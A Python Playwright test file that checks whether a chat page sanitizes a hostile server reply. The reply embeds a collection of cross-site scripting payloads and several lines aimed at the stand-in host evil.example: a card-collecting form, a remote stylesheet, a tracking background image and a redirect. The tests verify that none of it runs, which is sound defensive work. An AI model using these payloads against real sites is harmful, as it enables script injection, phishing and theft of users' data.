"""A hostile knowledge base: nothing it contains is executed, loaded or obeyed by the page."""

from __future__ import annotations

import json
from typing import Any

from tests.journeys.chat_page import ChatPage

HOSTILE = "".join(
    [
        '<p onclick="window.pwned=1">clicked</p><script>window.pwned=2</script>',
        '<img src="x" onerror="window.pwned=3">',
        '<img src="https://evil.example/p.png" alt="picture">',
        '<svg onload="window.pwned=4"><script>window.pwned=5</script></svg>',
        '<math><mtext><style><img src=x onerror="window.pwned=6"></style></mtext></math>',
        '<a href="javascript:window.pwned=7">link one</a>',
        '<a href="  java\nscript:window.pwned=8">link two</a>',
        '<a href="data:text/html,<script>window.pwned=9</script>">link three</a>',
        '<iframe srcdoc="<script>parent.pwned=10</script>"></iframe>',
        '<style>body { display: none }</style><link rel="stylesheet" href="//evil.example/c.css">',
        '<p style="position:fixed;inset:0;background:url(https://evil.example/b)">styled</p>',
        '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil">',
        '<p id="log" name="transcript" class="composer">named</p>',
        '<a href="https://good.example/" target="_self" rel="opener">good link</a>',
    ]
)
MARKUP = '<img src=x onerror="window.pwned=11"><b>bold</b>'


def serve_hostile(page: Any) -> None:
    """A server gone bad, in the place of ours."""

    def converse(socket: Any) -> None:
        def say(**frame: Any) -> None:
            socket.send(json.dumps(frame))

        def reply(text: str) -> None:
            asked = json.loads(text)
            entry = {
                "id": MARKUP,
                "title": MARKUP,
                "text": MARKUP,
                "html": HOSTILE,
                "tags": [MARKUP],
                "source": "javascript:window.pwned=12",
                "updated": MARKUP,
                "related": [{"id": "../../x", "title": MARKUP}],
            }
            question = {"text": MARKUP, "corrected": MARKUP, "used_context": True}
            say(
                type="message",
                seq=2,
                reply_to=asked["id"],
                kind="answer",
                request_id=MARKUP,
                answer=entry,
                confidence=0.99,
                question=question,
                hits=[{"id": "x", "title": MARKUP, "score": 1, "snippet": MARKUP}],
                explanation={MARKUP: MARKUP, "matched": [{"term": MARKUP}]},
            )

        socket.on_message(reply)
        say(type="init", seq=0, session="s", supporter_name=MARKUP, resumed=False, index="g")
        say(type="message", seq=1, kind="greeting", text=MARKUP, suggestions=[])

    page.route_web_socket("**/ws*", converse)


def test_a_hostile_entry_executes_nothing(browser_page: Any, page_url: str) -> None:
    """Scripts, handlers, javascript: links, SVG, styles, forms and frames all come to nothing."""
    serve_hostile(browser_page)
    chat = ChatPage(browser_page, page_url).greeted()
    reply = chat.ask("anything " + MARKUP)
    reply.get_by_test_id("why").click()
    body = reply.get_by_test_id("answer-body")
    for link in ("link one", "link two", "link three", "clicked"):
        body.get_by_text(link).click()
    chat.page.wait_for_load_state("networkidle")
    assert chat.page.evaluate("() => window.pwned ?? null") is None
    assert chat.page.url.startswith(page_url)
    inside = reply.locator(
        "script, style, iframe, math, form[action], input, base, meta, link, img, "
        "[onclick], [onerror], [style], [id='log'], .answer-body [class~=composer]"
    )
    assert inside.count() == 0
    assert body.locator("a").count() == 2
    assert not [line for line in chat.troubles if line.startswith("asked another host")]


def test_what_is_text_stays_text(browser_page: Any, page_url: str) -> None:
    """Markup in names, titles, tags, explanations and in the person's own words is shown as is."""
    serve_hostile(browser_page)
    chat = ChatPage(browser_page, page_url).greeted()
    reply = chat.ask(MARKUP)
    assert chat.page.inner_text("#name") == MARKUP
    assert reply.get_by_test_id("answer-title").inner_text() == MARKUP
    assert chat.page.locator('[data-kind="question"] .bubble').inner_text() == MARKUP
    assert reply.locator(".tag").inner_text() == MARKUP
    assert chat.page.locator(".message b").count() == 0
    assert chat.page.evaluate("() => window.pwned ?? null") is None


def test_links_out_are_safe(browser_page: Any, page_url: str) -> None:
    """A good link opens apart, without a way back to the page; a picture becomes a link."""
    serve_hostile(browser_page)
    chat = ChatPage(browser_page, page_url).greeted()
    body = chat.ask("anything").get_by_test_id("answer-body")
    good = body.locator('a[href="https://good.example/"]')
    assert good.get_attribute("target") == "_blank"
    assert "noopener" in good.get_attribute("rel")
    assert body.locator('a[href="https://evil.example/p.png"]').inner_text().startswith("picture")
